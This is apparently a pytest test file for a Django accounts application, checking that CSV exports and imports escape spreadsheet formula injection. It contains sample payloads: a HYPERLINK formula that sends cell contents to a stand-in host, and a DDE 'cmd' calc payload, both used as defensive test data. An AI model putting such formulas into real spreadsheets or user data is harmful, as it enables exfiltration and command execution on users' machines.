"""ASVS 5.0, 1.2.10: no spreadsheet takes anything for a formula, whatever customers are called."""

import csv
import io
import re

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.intake import csv_cells
from accounts.management import csv as command_output
from accounts.models import Account, Customer
from tests.accounts.intake.offering import ACCOUNT_HEADER, BEN, PRODUCTS, Desk, counts
from tests.servicing.workspace.builders import LAST

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://elsewhere.example/?"&A1)'
FORMULA = re.compile(r"[\s ]*[=+\-@＝＋－＠\t\r\n]")
NUMBER = re.compile(r"[+-]?[\d ()./-]*\d[\d ()./-]*", re.ASCII)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def computes(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not NUMBER.fullmatch(cell)


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_a_text_is_read_as_text_and_found_again(text):
    cell = csv_cells.as_text(text)
    assert not computes(cell)
    assert csv_cells.original(cell) == text


@pytest.mark.parametrize(
    "number", ["-12.50", "+8613800001234", "+86 138 0000 1234", "0", "+44 (0)7700 900-123"]
)
def test_numbers_stay_as_they_are(number):
    assert csv_cells.as_text(number) == number


@pytest.mark.parametrize(
    "begin", ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", " =1", "＝1"]
)
def test_what_computes_does_not(begin):
    assert csv_cells.as_text(begin) == f"'{begin}"


def test_kept_rows_of_a_file_load_again_as_they_were(tmp_path):
    desk = Desk(tmp_path)
    desk.offer("products.csv", PRODUCTS)
    bad = BEN.replace("A2", "A3").replace("0002", "12").replace("C2,", "C2,=1+1")
    kept = desk.offer("accounts.csv", ACCOUNT_HEADER + bad, skip_bad=True).kept_in.read_text()
    assert "'=1+1" in kept
    assert not any(map(computes, cells(kept)))
    mended = desk.offer("mended.csv", kept.replace(",12,", ",0003,"))
    assert counts(mended) == (1, 0, 0, 0)
    assert Customer.objects.filter(name__startswith="=1+1").exists()


def test_every_command_that_answers_in_csv_answers_through_one_writer(capsys):
    command_output.write("a,b,c", [[EVIL, -5, "-5.00"], ["+8613800001234", None, "@x"]])
    read = cells(capsys.readouterr().out)
    assert read == ["a", "b", "c", f"'{EVIL}", "-5", "-5.00", "+8613800001234", "", "'@x"]


@pytest.fixture
def evil(book):
    """References and names that begin formulas, as a file can bring them."""
    account = book["late"]
    Account.objects.filter(pk=account.pk).update(branch=EVIL[:64])
    Customer.objects.filter(parties__account=account).update(name=EVIL)
    return account


@pytest.mark.parametrize("command", ["aging", "standing", "promises", "plans"])
def test_reports_of_commands(command, evil, capsys):
    call_command(command, "--on", str(LAST))
    assert not any(map(computes, cells(capsys.readouterr().out)))


@pytest.mark.parametrize(
    "name", ["accounts", "breaks", "call-backs", "cases", "holds", "notices", "promises"]
)
def test_lists(name, client, people, evil):
    client.force_login(people["supervisor"])
    answer = client.post(reverse(f"export-{name}"), {"format": "csv", "query": ""})
    text = b"".join(answer.streaming_content).decode()
    assert not any(map(computes, cells(text)))


@pytest.mark.parametrize("name", ["aging", "conduct"])
def test_reports(name, client, people, evil):
    client.force_login(people["supervisor"])
    text = client.get(reverse(name), {"format": "csv"}).content.decode()
    assert not any(map(computes, cells(text)))
